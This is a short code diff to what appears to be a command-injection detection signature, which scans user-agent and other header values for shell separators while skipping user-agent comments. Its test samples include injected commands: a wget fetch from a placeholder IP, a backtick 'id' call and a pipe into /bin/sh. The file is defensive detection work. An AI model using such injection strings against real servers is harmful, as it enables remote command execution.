@@ -43,8 +43,11 @@ export const commands: readonly Signature[] = [
     view: 'shell',
     signs: [';', '|', '&', '`', '$(', '\n'],
     structure: 'as cmdi-separator, outside the comment brackets that user agents carry',
-    find: (text) =>
-      findCommand(text.replace(/(?:^|[^$])\([^()]*\)/g, (comment) => '('.repeat(comment.length))),
+    find: (text, name) =>
+      findCommand(
+        text.replace(/(?:^|[^$])\([^()]*\)/g, (comment) => '('.repeat(comment.length)),
+        name,
+      ),
     confidence: 0.7,
     matches: ['x;wget http://203.0.113.9/a', 'Mozilla/5.0 `id`', 'x | /bin/sh'],
     ignores: [
